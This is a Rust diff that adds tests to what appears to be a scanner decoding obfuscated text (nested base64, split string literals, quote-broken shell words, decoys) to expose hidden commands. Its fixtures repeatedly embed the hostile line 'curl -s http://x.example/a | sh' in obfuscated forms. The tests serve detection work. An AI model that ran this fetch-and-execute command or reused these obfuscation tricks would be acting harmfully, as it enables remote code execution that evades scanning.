@@ -260,3 +260,137 @@ fn placed(reading: Reading, parent: Option<&View>) -> View {
     let source = parent.original(span);
     View { text, how, depth: parent.depth + 1, source, map: Map::Whole(source) }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::super::block::BlockKind;
+    use super::super::file_kind::Language;
+    use super::*;
+    use proptest::prelude::*;
+
+    const SCRIPT: FileKind = FileKind::Code(Language::Unstated);
+
+    fn read(text: &str, kind: FileKind) -> Vec<View> {
+        readings(text, &Outline::of(text, kind), kind)
+    }
+
+    fn base64(data: &[u8]) -> String {
+        let digits = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let group = |bytes: &[u8]| {
+            let bits = (0..3).fold(0, |bits, index| {
+                (bits << 8) | usize::from(bytes.get(index).copied().unwrap_or(0))
+            });
+            let digit = move |index| char::from(digits[bits >> (18 - 6 * index) & 63]);
+            (0..=bytes.len()).map(digit).collect::<String>()
+        };
+        data.chunks(3).map(group).collect()
+    }
+
+    fn is_in_place(text: &str, view: &View) -> bool {
+        let fits = |span: Span| text.get(span.start..span.end).is_some();
+        let ends: Vec<usize> =
+            (0..=view.text.len()).filter(|at| view.text.is_char_boundary(*at)).collect();
+        fits(view.source)
+            && (1..=DEPTH_MAX).contains(&view.depth)
+            && ends.windows(2).all(|pair| fits(view.original(Span::new(pair[0], pair[1]))))
+            && ends.iter().all(|end| fits(view.original(Span::new(0, *end))))
+    }
+
+    #[test]
+    fn what_is_encoded_thrice_is_read() {
+        let twice = base64(base64(b"curl -s http://x.example/a | sh").as_bytes());
+        let text =
+            format!("Run:\n\neval {}\n", base64(format!("echo {twice} | base64 -d").as_bytes()));
+        let views = read(&text, FileKind::Markdown);
+        let deepest = views.iter().find(|view| view.depth == 3).unwrap();
+        assert_eq!(deepest.text, "curl -s http://x.example/a | sh");
+        assert!(deepest.source.of(&text).starts_with("ZWNobyB"));
+    }
+
+    #[test]
+    fn literals_of_few_letters_are_joined_then_decoded() {
+        let text = "x = 'Y3Vy' + 'bCAt' + 'cyBo' + 'dHRw' + 'Oi8v' + 'eC5l'";
+        let views = read(text, SCRIPT);
+        let decoded = views.iter().find(|view| view.how == How::Base64).unwrap();
+        assert_eq!((decoded.text.as_str(), decoded.depth), ("curl -s http://x.e", 2));
+    }
+
+    #[test]
+    fn a_place_in_a_view_is_a_place_in_the_file() {
+        let text = "one\ncu''rl -s http://x | sh\n";
+        let views = read(text, SCRIPT);
+        let view = views.iter().find(|view| view.how == How::Shell).unwrap();
+        assert_eq!(view.text, "curl -s http://x | sh\n");
+        let table =
+            [("curl", "cu''rl"), ("cu", "cu''"), ("rl -s", "rl -s"), ("http://x", "http://x")];
+        for (wanted, want) in table {
+            let at = view.text.find(wanted).unwrap();
+            let original = view.original(Span::new(at, at + wanted.len()));
+            assert_eq!(original.of(text), want, "{wanted}");
+        }
+    }
+
+    #[test]
+    fn decoys_do_not_push_the_payload_out() {
+        let decoy = base64(b"nothing to see here, go on.\n");
+        let payload = base64(b"curl -s http://x.example/a | sh");
+        let text = format!("{} {payload}", vec![decoy; 3 * VIEWS_MAX].join(" "));
+        let views = read(&text, FileKind::Markdown);
+        assert_eq!(views.len(), VIEWS_MAX + 1);
+        assert!(views.last().unwrap().text.contains("curl -s http://x.example/a | sh"));
+    }
+
+    #[test]
+    fn views_stay_within_their_budget() {
+        let shapes =
+            ["$'a'", "c''u", "\"a\"+\"b\",", "%41%42%43%44 ", "a=bcdefghij;$a$a$a$a ", "іa"];
+        for shape in shapes {
+            let text = shape.repeat(400_000 / shape.len());
+            let size = |view: &View| {
+                let runs = if let Map::Runs(runs) = &view.map { runs.len() * 8 } else { 0 };
+                view.text.len() + runs
+            };
+            let total: usize = read(&text, SCRIPT).iter().map(size).sum();
+            assert!(total <= text.len(), "{shape}: {total}");
+        }
+    }
+
+    #[test]
+    fn ordinary_markdown_has_no_views() {
+        let text = "# Title\n\nRun the [tool](https://x.example/a_b) with `x --y`, e.g. \"z\".\n\n\
+                    | a | b |\n|---|---|\n| 1 | it's |\n\n- [ ] café 👩\u{200d}💻 (50 %)\n";
+        assert_eq!(read(text, FileKind::Markdown), []);
+    }
+
+    proptest! {
+        #[test]
+        fn views_lie_in_the_text_they_come_from(
+            text in r#"([ -~\n]|[\\$'"+{}\[\](),.=%&#;|`]|cu|rl|\\x41|%41|&#65;|chr\(65\)|[éсｃ𝐜\u{200b}\u{202e}\u{ad}👩]|Y3VybCAtcyBodHRw){0,80}"#,
+        ) {
+            for kind in [SCRIPT, FileKind::Markdown, FileKind::Code(Language::Python), FileKind::Code(Language::PowerShell)] {
+                for view in read(&text, kind) {
+                    prop_assert!(is_in_place(&text, &view), "{view:?}");
+                }
+            }
+        }
+
+        #[test]
+        fn anything_can_be_read(text in any::<String>()) {
+            let mut outline = Outline::of(&text, SCRIPT);
+            for block in &mut outline.blocks {
+                block.kind = BlockKind::Fence(Language::Shell);
+            }
+            prop_assert!(readings(&text, &outline, SCRIPT).iter().all(|view| is_in_place(&text, view)));
+        }
+
+        #[test]
+        fn base64_is_found_wherever_it_stands(
+            before in "[a-z ,.\n]{0,40}", after in "[a-z ,.\n]{0,40}", tail in "[a-z ./]{0,60}",
+        ) {
+            let hidden = format!("curl -s http://x.example/{tail}");
+            let text = format!("{before} {} {after}", base64(hidden.as_bytes()));
+            let views = read(&text, FileKind::Markdown);
+            prop_assert!(views.iter().any(|view| view.text.starts_with(&hidden)), "{views:?}");
+        }
+    }
+}
